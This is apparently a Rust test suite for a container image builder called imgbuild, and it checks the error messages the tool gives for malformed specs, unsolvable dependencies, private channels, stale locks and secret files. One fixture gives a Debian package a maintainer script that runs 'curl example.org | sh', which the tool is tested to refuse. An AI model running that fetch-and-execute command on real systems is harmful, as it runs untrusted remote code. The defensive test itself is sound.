//! What bad input gets, through the program: the whole message, an exit code, no panic, and nothing under `-o`.
//!
//! `crates/spec` holds every message of the spec itself; here is one of each kind, and everything that comes after it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use imgbuild_tests::{Answer, Bench, DebianArchive, Server, channel_folder, names};
use insta::assert_snapshot;

/// What a spec gets that is this text.
fn refused(spec: &str) -> String {
    let bench = Bench::new();
    bench.imgbuild.write("spec.toml", spec);
    let message = bench.fails(&[]);
    assert!(!bench.imgbuild.path("spec.lock").exists());
    assert_eq!(bench.mirror.requests(), [], "a wrong spec needs no network");
    message
}

#[test]
fn an_unknown_key() {
    assert_snapshot!(refused("name = \"x\"\npyton = \"3.11\"\n"), @r#"
     × unknown key `pyton`
      ╭─[spec.toml:2:1]
    1 │ name = "x"
    2 │ pyton = "3.11"
      · ──┬──
      ·   ╰── here
      ╰────
     help: did you mean `python`?
    "#);
}

#[test]
fn a_wrong_type() {
    assert_snapshot!(refused("name = \"x\"\n[conda]\npackages = \"numpy\"\n"), @r#"
     × `conda.packages` must be a list, but is a string
      ╭─[spec.toml:3:12]
    2 │ [conda]
    3 │ packages = "numpy"
      ·            ───┬───
      ·               ╰── here
      ╰────
    "#);
}

#[test]
fn a_bad_version() {
    assert_snapshot!(refused("name = \"x\"\npython = \"three\"\n"), @r#"
     × `three` is not a version of Python 3
      ╭─[spec.toml:2:10]
    1 │ name = "x"
    2 │ python = "three"
      ·          ───┬───
      ·             ╰── here
      ╰────
     help: write major and minor, like `3.11`, or the patch release as well, like `3.11.9`
    "#);
}

#[test]
fn a_bad_image_name() {
    assert_snapshot!(refused("name = \"My Image\"\n"), @r#"
     × `My Image` is not a valid image name: each part between slashes is lower-case letters and digits, parted by one `.`, one or two `_`, or any number of `-`
      ╭─[spec.toml:1:8]
    1 │ name = "My Image"
      ·        ─────┬────
      ·             ╰── here
      ╰────
    "#);
}

#[test]
fn a_matrix_key_that_nothing_uses() {
    assert_snapshot!(refused("name = \"x\"\n[matrix]\npython = [\"3.9\", \"3.11\"]\n"), @r#"
     × nothing uses the matrix key `python`
      ╭─[spec.toml:3:1]
    2 │ [matrix]
    3 │ python = ["3.9", "3.11"]
      · ───┬──
      ·    ╰── not used
      ╰────
     help: write `{python}` where its value belongs, or remove the key
    "#);
}

#[test]
fn a_template_without_its_key() {
    assert_snapshot!(refused("name = \"x\"\ntags = [\"py{python}\"]\n"), @r#"
     × the template `{python}` has no key in `[matrix]`
      ╭─[spec.toml:2:12]
    1 │ name = "x"
    2 │ tags = ["py{python}"]
      ·            ────┬───
      ·                ╰── no such key
      ╰────
     help: add `python = ["…"]` to `[matrix]`; for the braces themselves, write `{{python}}`
    "#);
}

#[test]
fn a_missing_environment_file() {
    assert_snapshot!(refused("name = \"x\"\nenv = \"environment.yml\"\n"), @r#"
     × cannot read `environment.yml`: there is no such file
      ╭─[spec.toml:2:7]
    1 │ name = "x"
    2 │ env = "environment.yml"
      ·       ────────┬────────
      ·               ╰── here
      ╰────
    "#);
}

#[test]
fn a_toml_syntax_error() {
    assert_snapshot!(refused("name = \"x\"\npython = 3.11.2\n"), @r#"
     × this is not valid TOML: invalid float, expected nothing
      ╭─[spec.toml:2:14]
    1 │ name = "x"
    2 │ python = 3.11.2
      ·              ─┬
      ·               ╰── here
      ╰────
    "#);
}

#[test]
fn a_yaml_syntax_error() {
    let bench = Bench::new();
    bench.spec("env = \"environment.yml\"", "");
    bench.imgbuild.write("environment.yml", "name: x\ndependencies:\n  - numpy\n  - [pandas\n");
    assert_snapshot!(bench.fails(&[]), @"
     × this is not valid YAML: unclosed bracket '['
      ╭─[environment.yml:4:5]
    3 │   - numpy
    4 │   - [pandas
      ·     ┬
      ·     ╰── here
      ╰────
    ");
}

#[test]
fn a_missing_spec() {
    let bench = Bench::new();
    assert_snapshot!(bench.fails(&[]), @"  × cannot read `spec.toml`: there is no such file");
}

#[test]
fn wrong_arguments() {
    let bench = Bench::new();
    bench.conda(&[]);
    let outcome = bench.imgbuild.run(["build", "spec.toml", "--only", "python"]).failure();
    assert_eq!(outcome.code, Some(2));
    assert_snapshot!(bench.message(&outcome), @"
    error: invalid value 'python' for '--only <KEY=VALUE>': write it as KEY=VALUE

    For more information, try '--help'.
    ");
}

#[test]
fn nothing_satisfies_the_requirements() {
    let bench = Bench::new();
    bench.conda(&["odd-empty", "odd-unsolvable"]);
    assert_snapshot!(bench.fails(&[]), @r#"
      × cannot lock the conda environment of `x:latest (linux/amd64)`
      ╰─▶ no set of packages satisfies all requirements:
          odd-unsolvable * cannot be installed because there are no viable options:
          └─ odd-unsolvable 1.0 would require
             └─ no-such-package >=2, for which no candidates were found.

    Advice:
      ☞ it was asked for here
        ╭─[spec.toml:10:26]
      9 │ channels = ["./channel"]
     10 │ packages = ["odd-empty", "odd-unsolvable"]
        ·                          ────────┬───────
        ·                                  ╰── this requirement
        ╰────
    "#);
    assert!(!bench.imgbuild.path("spec.lock").exists());
}

#[test]
fn no_version_is_new_enough() {
    let bench = Bench::new();
    bench.spec(
        "python = \"{python}\"\ntags = [\"{python}\"]",
        "[conda]\nchannels = [\"./channel\"]\npackages = [\"numpy >=99\"]\n[matrix]\npython = [\"3.11\"]",
    );
    assert_snapshot!(bench.fails(&[]), @r#"
      × cannot lock the conda environment of `x:3.11 (linux/amd64)`
      ╰─▶ no set of packages satisfies all requirements:
          No candidates were found for numpy >=99.

    Advice:
      ☞ it was asked for here
        ╭─[spec.toml:11:13]
     10 │ channels = ["./channel"]
     11 │ packages = ["numpy >=99"]
        ·             ──────┬─────
        ·                   ╰── this requirement
     12 │ [matrix]
        ╰────
    "#);
}

#[test]
fn a_channel_that_refuses_connections() {
    let bench = Bench::new();
    bench.spec("", "[conda]\nchannels = [\"http://127.0.0.1:1/channel\"]\npackages = [\"odd-empty\"]");
    assert_snapshot!(bench.fails(&[]), @r#"
      × cannot lock the conda environment of `x:latest (linux/amd64)`
      ├─▶ cannot reach the channel `http://127.0.0.1:PORT/channel`
      ├─▶ `http://127.0.0.1:PORT/channel/linux-64/repodata.json.zst` cannot be reached
      ├─▶ error sending request
      ├─▶ client error (Connect)
      ├─▶ tcp connect error
      ╰─▶ Connection refused (os error 111)

    Advice:
      ☞ it was asked for here
        ╭─[spec.toml:9:13]
      8 │ [conda]
      9 │ channels = ["http://127.0.0.1:PORT/channel"]
        ·             ──────────────┬─────────────
        ·                           ╰── this channel
     10 │ packages = ["odd-empty"]
        ╰────
    "#);
}

#[test]
fn a_channel_that_is_not_there() {
    let bench = Bench::new();
    let channel = format!("{}/channel", bench.mirror.url());
    bench.spec("", &format!("[conda]\nchannels = [\"{channel}\"]\npackages = [\"odd-empty\"]"));
    assert_snapshot!(bench.fails(&[]), @r#"
      × cannot lock the conda environment of `x:latest (linux/amd64)`
      ╰─▶ the channel `http://MIRROR/channel` has no index for `linux-64`

    Advice:
      ☞ it was asked for here
        ╭─[spec.toml:9:13]
      8 │ [conda]
      9 │ channels = ["http://MIRROR/channel"]
        ·             ────────────────┬───────────────
        ·                             ╰── this channel
     10 │ packages = ["odd-empty"]
        ╰────
    "#);
}

#[test]
fn a_channel_without_a_folder_for_the_platform() {
    let bench = Bench::new();
    let partial = bench.imgbuild.path("partial");
    fs_err::create_dir_all(&partial).unwrap();
    for folder in ["noarch", "linux-64"] {
        std::os::unix::fs::symlink(channel_folder().join(folder), partial.join(folder)).unwrap();
    }
    let conda = "[conda]\nchannels = [\"./partial\"]\npackages = [\"odd-empty\"]";
    bench.spec("platforms = [\"linux/amd64\", \"linux/arm64\"]", conda);
    assert_snapshot!(bench.fails(&[]), @r#"
      × cannot lock the conda environment of `x:latest (linux/arm64)`
      ╰─▶ the channel `./partial` has no index for `linux-aarch64`

    Advice:
      ☞ it was asked for here
        ╭─[spec.toml:9:13]
      8 │ [conda]
      9 │ channels = ["./partial"]
        ·             ─────┬─────
        ·                  ╰── this channel
     10 │ packages = ["odd-empty"]
        ╰────
    "#);
    bench.spec("platforms = [\"linux/amd64\"]", conda);
    bench.run(&["build", "spec.toml"]);
}

#[test]
fn a_private_channel() {
    let bench = Bench::new();
    let channel = Server::with(&channel_folder(), |request| match request.authorization.as_deref() {
        Some("Bearer right-secret") => Answer::File,
        _ => Answer::Status(401),
    });
    let spec = format!("[conda]\nchannels = [\"{}\"]\npackages = [\"odd-empty\"]", channel.url());
    bench.spec("", &spec);
    assert_snapshot!(bench.fails(&[]), @r#"
      × cannot lock the conda environment of `x:latest (linux/amd64)`
      ├─▶ cannot reach the channel `http://127.0.0.1:PORT`
      ╰─▶ `http://127.0.0.1:PORT/linux-64/repodata.json.zst` may not be read (401 Unauthorized)
      help: check the credentials that are stored for this host

    Advice:
      ☞ it was asked for here
        ╭─[spec.toml:9:13]
      8 │ [conda]
      9 │ channels = ["http://127.0.0.1:PORT"]
        ·             ────────────┬───────────
        ·                         ╰── this channel
     10 │ packages = ["odd-empty"]
        ╰────
    "#);
    let credentials = |token: &str| {
        let text = format!("{{\"127.0.0.1\": {{\"BearerToken\": \"{token}\"}}}}");
        bench.imgbuild.write("credentials.json", text)
    };
    let with = |path: &std::path::Path| {
        let mut command = bench.imgbuild.command(["build", "spec.toml", "--output", "out"]);
        imgbuild_tests::capture(command.env("RATTLER_AUTH_FILE", path))
    };
    let wrong = with(&credentials("wrong-secret")).failure();
    assert_snapshot!(bench.message(&wrong), @r#"
      × cannot lock the conda environment of `x:latest (linux/amd64)`
      ├─▶ cannot reach the channel `http://127.0.0.1:PORT`
      ╰─▶ `http://127.0.0.1:PORT/linux-64/repodata.json.zst` may not be read (401 Unauthorized)
      help: check the credentials that are stored for this host

    Advice:
      ☞ it was asked for here
        ╭─[spec.toml:9:13]
      8 │ [conda]
      9 │ channels = ["http://127.0.0.1:PORT"]
        ·             ────────────┬───────────
        ·                         ╰── this channel
     10 │ packages = ["odd-empty"]
        ╰────
    "#);
    assert!(!wrong.stderr.contains("wrong-secret"));
    let right = with(&credentials("right-secret")).success();
    assert_eq!(names(&bench.imgbuild.path("out")), ["x-latest.tar"]);
    for text in [bench.imgbuild.read("spec.lock"), right.stdout, right.stderr] {
        assert!(!text.contains("right-secret"), "{text}");
    }
}

#[test]
fn a_post_link_script() {
    let bench = Bench::new();
    bench.conda(&["odd-post-link"]);
    assert_snapshot!(bench.fails(&[]), @r#"
      × cannot lock the conda environment of `x:latest (linux/amd64)`
      ╰─▶ `odd-post-link` has a script that an installer would run: `bin/.odd-post-link-post-link.sh`
      help: have it run in the sandbox with `[conda] allow-post-link = ["odd-post-link"]`; where the package works without it, `skip-post-link = ["odd-post-link"]`

    Advice:
      ☞ it was asked for here
        ╭─[spec.toml:10:13]
      9 │ channels = ["./channel"]
     10 │ packages = ["odd-post-link"]
        ·             ───────┬───────
        ·                    ╰── this requirement
        ╰────
    "#);
    bench.spec(
        "",
        "[conda]\nchannels = [\"./channel\"]\npackages = [\"odd-post-link\"]\nskip-post-link = [\"odd-post-link\"]",
    );
    bench.run(&["build", "spec.toml"]);
}

#[test]
fn an_unknown_debian_package() {
    let bench = Bench::new();
    bench.packages(&["tini", "tinny"]);
    assert_snapshot!(bench.fails(&[]), @r#"
      × cannot lock the Debian base of `x:latest (linux/amd64)`
      ╰─▶ the suite `trixie` has no package `tinny`
      help: did you mean `tini`?

    Advice:
      ☞ it was asked for here
       ╭─[spec.toml:7:21]
     6 │ keyring = "keyring.asc"
     7 │ packages = ["tini", "tinny"]
       ·                     ───┬───
       ·                        ╰── this package
       ╰────
    "#);
}

#[test]
fn a_python_that_the_release_does_not_have() {
    let mut archive = DebianArchive::new();
    archive.add("python3", "3.13.5-1", "", "");
    archive.add("python3.13", "3.13.5-1", "", "");
    archive.publish();
    let bench = Bench::with(archive, |_| Answer::File);
    let python =
        |version: &str| bench.spec(&format!("python = {{ version = \"{version}\", from = \"debian\" }}"), "");
    python("3.11");
    assert_snapshot!(bench.fails(&[]), @r#"
      × cannot lock the Debian base of `x:latest (linux/amd64)`
      ╰─▶ the suite `trixie` has no Python 3.11
      help: it has 3.13; `base = "bookworm"` has 3.11; conda has every version: `python = "3.11"`

    Advice:
      ☞ it was asked for here
       ╭─[spec.toml:2:10]
     1 │ name = "x"
     2 │ python = { version = "3.11", from = "debian" }
       ·          ──────────────────┬──────────────────
       ·                            ╰── this Python
     3 │ [base]
       ╰────
    "#);
    python("3.12.4");
    assert_snapshot!(bench.fails(&[]).lines().nth(2).unwrap(), @r#"  help: it has 3.13; conda has every version: `python = "3.12.4"`"#);
}

#[test]
fn a_debian_dependency_that_nothing_satisfies() {
    let mut archive = DebianArchive::new();
    archive.add("editor", "1", "Depends: spelling (>= 2)\n", "");
    archive.add("spelling", "1", "", "");
    archive.publish();
    let bench = Bench::with(archive, |_| Answer::File);
    bench.packages(&["editor"]);
    assert_snapshot!(bench.fails(&[]), @r#"
      × cannot lock the Debian base of `x:latest (linux/amd64)`
      ╰─▶ the dependency `spelling (>= 2)` cannot be met in the suite `trixie`: `editor` → `spelling (>= 2)`
      help: the suite has `spelling 1`

    Advice:
      ☞ it was asked for here
       ╭─[spec.toml:7:13]
     6 │ keyring = "keyring.asc"
     7 │ packages = ["editor"]
       ·             ────┬───
       ·                 ╰── this package
       ╰────
    "#);
}

#[test]
fn a_debian_package_whose_scripts_may_not_be_run() {
    let mut archive = DebianArchive::new();
    archive.add("editor", "1", "Depends: spelling\n", "#!/bin/sh\ncurl example.org | sh\n");
    archive.add("spelling", "1", "", "#!/bin/sh\nadduser --system words\nsystemctl restart words\n");
    archive.publish();
    let bench = Bench::with(archive, |_| Answer::File);
    bench.packages(&["editor"]);
    let spec = bench.imgbuild.read("spec.toml");
    bench.imgbuild.write("spec.toml", spec + "configure = false\n");
    assert_snapshot!(bench.fails(&[]), @r#"
      × cannot lock the Debian base of `x:latest (linux/amd64)`
      ╰─▶ the maintainer scripts (postinst) of the package `editor` 1 do more than imgbuild reproduces
            curl example.org | sh
          the maintainer scripts (postinst) of the package `spelling` 1 do more than imgbuild reproduces
            adduser --system words
            systemctl restart words
      help: `[base] configure = false` forbids running them: leave the packages out, or take the programs from conda

    Advice:
      ☞ it was asked for here
       ╭─[spec.toml:7:13]
     6 │ keyring = "keyring.asc"
     7 │ packages = ["editor"]
       ·             ────┬───
       ·                 ╰── this package
     8 │ configure = false
       ╰────
    "#);
}

#[test]
fn scripts_that_dpkg_itself_needs() {
    let mut archive = DebianArchive::new();
    archive.add("shell", "2", "Essential: yes\n", "#!/bin/sh\nadd-shell /bin/new\n");
    archive.publish();
    let bench = Bench::with(archive, |_| Answer::File);
    bench.spec("", "");
    assert_snapshot!(bench.fails(&[]), @r"
    × cannot lock the Debian base of `x:latest (linux/amd64)`
    ╰─▶ the maintainer scripts (postinst) of the package `shell` 2 do more than imgbuild reproduces
          add-shell /bin/new
    help: dpkg itself needs what they make, so that it cannot run them: a newer imgbuild may know them
    ");
}

#[test]
fn a_suite_that_the_mirror_lacks() {
    let bench = Bench::new();
    let mirror = bench.mirror.url();
    bench.imgbuild.write(
        "spec.toml",
        format!("name = \"x\"\nbase = {{ debian = \"bookworm\", mirror = \"{mirror}/debian\", keyring = \"keyring.asc\" }}\n"),
    );
    assert_snapshot!(bench.fails(&[]), @"
    × cannot lock the Debian base of `x:latest (linux/amd64)`
    ╰─▶ the mirror has no suite `bookworm`: `http://MIRROR/debian/dists/bookworm/InRelease` is not there
    help: the suites are called by their code names, such as `bookworm` and `trixie`
    ");
}

#[test]
fn locked_without_a_lock_and_with_a_stale_one() {
    let bench = Bench::new();
    bench.conda(&["odd-empty"]);
    assert_snapshot!(bench.fails(&["--locked"]), @"
    × there is no lock `spec.lock`, and `--locked` forbids making one
    help: run `imgbuild lock` first, and keep the lock beside the spec
    ");
    assert_eq!(bench.mirror.requests(), []);
    bench.run(&["lock", "spec.toml"]);
    bench.conda(&["odd-empty", "odd-modes"]);
    let lock = bench.imgbuild.read("spec.lock");
    assert_snapshot!(bench.fails(&["--locked"]), @"
    × the lock `spec.lock` is stale: the spec asks for something else than it was made for
    help: run `imgbuild lock` to renew it
    ");
    assert_eq!(bench.imgbuild.read("spec.lock"), lock);
}

#[test]
fn a_lock_that_is_none() {
    let bench = Bench::new();
    bench.conda(&["odd-empty"]);
    bench.imgbuild.write("spec.lock", "version = 2\nvariants = \"none\"\n");
    assert_snapshot!(bench.fails(&[]), @r#"
    × cannot use the lock `spec.lock`
    ╰─▶ the lock cannot be read: TOML parse error at line 2, column 1
          |
        2 | variants = "none"
          | ^^^^^^^^
        unknown field `variants`, expected one of `version`, `inputs`, `variant`, `debian`, `conda`, `pypi`
    help: remove it and run `imgbuild lock` to make it anew
    "#);
    bench.imgbuild.write("spec.lock", "version = 99\n");
    assert_snapshot!(bench.fails(&[]), @"
    × cannot use the lock `spec.lock`
    ╰─▶ the lock has format version 99, and this imgbuild reads versions up to 4
    help: a newer imgbuild wrote it: build with that one, or remove the lock and run `imgbuild lock` to make it anew
    ");
}

#[test]
fn offline_with_an_empty_store() {
    let bench = Bench::new();
    bench.conda(&["odd-empty"]);
    assert_snapshot!(bench.fails(&["--offline"]), @"
    × cannot lock the Debian base of `x:latest (linux/amd64)`
    ╰─▶ the index of the suite `trixie` is not in the cache, and `--offline` forbids fetching it
    help: run `imgbuild lock` once without `--offline`
    ");
    bench.run(&["lock", "spec.toml"]);
    let before = bench.mirror.requests().len();
    fs_err::remove_dir_all(bench.imgbuild.store()).unwrap();
    assert_snapshot!(bench.fails(&["--offline"]), @"
    × cannot get `apt_1_all`
    ╰─▶ `http://MIRROR/debian/pool/apt_1_all.deb` is needed from the network, which `--offline` forbids
    help: run once without `--offline`
    ");
    assert_eq!(bench.mirror.requests().len(), before);
}

#[test]
fn a_choice_that_matches_nothing() {
    let bench = Bench::new();
    bench.spec("tags = [\"py{python}\"]", "[matrix]\npython = [\"3.9\", \"3.11\"]");
    assert_snapshot!(bench.fails(&["--only", "python=3.8", "--platform", "linux/arm64"]), @r#"
    × no variant of the spec has python = "3.8" and the platform linux/arm64
    help: `imgbuild check` lists the variants
    "#);
}

#[test]
fn files_with_secrets_among_the_copied() {
    let bench = Bench::new();
    bench.spec("", "[[copy]]\nfrom = \"src\"\nto = \"/src\"");
    let env = bench.imgbuild.write("src/.env", "TOKEN=1\n");
    assert_snapshot!(bench.fails(&[]), @r#"
      × `src/.env` is a file of environment variables, and is not copied into an image by accident
      help: name it in `.imgbuildignore`, or name this one file in `from` if it must be in the image

    Advice:
      ☞ it was asked for here
       ╭─[spec.toml:8:1]
     7 │
     8 │ [[copy]]
       · ────┬───
       ·     ╰── this folder is copied
     9 │ from = "src"
       ╰────
    "#);
    fs_err::remove_file(env).unwrap();
    bench
        .imgbuild
        .write("src/id", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n");
    assert_snapshot!(bench.fails(&[]), @r#"
      × `src/id` is a private key, and is not copied into an image by accident
      help: name it in `.imgbuildignore`, or name this one file in `from` if it must be in the image

    Advice:
      ☞ it was asked for here
       ╭─[spec.toml:8:1]
     7 │
     8 │ [[copy]]
       · ────┬───
       ·     ╰── this folder is copied
     9 │ from = "src"
       ╰────
    "#);
    bench.imgbuild.write(".imgbuildignore", "id\n");
    bench.run(&["build", "spec.toml"]);
    bench.imgbuild.write("src/.env", "TOKEN=1\n");
    bench.spec("", "[[copy]]\nfrom = \"src/.env\"\nto = \"/src/.env\"");
    bench.run(&["build", "spec.toml"]);
}

#[test]
fn a_time_that_is_none() {
    let bench = Bench::new();
    bench.conda(&[]);
    let mut command = bench.imgbuild.command(["build", "spec.toml", "--output", "out"]);
    let outcome = imgbuild_tests::capture(command.env("SOURCE_DATE_EPOCH", "yesterday")).failure();
    assert_snapshot!(bench.message(&outcome), @"  × `SOURCE_DATE_EPOCH` is `yesterday`, which is not a number of seconds since 1970");
    bench.nothing_is_there();
}
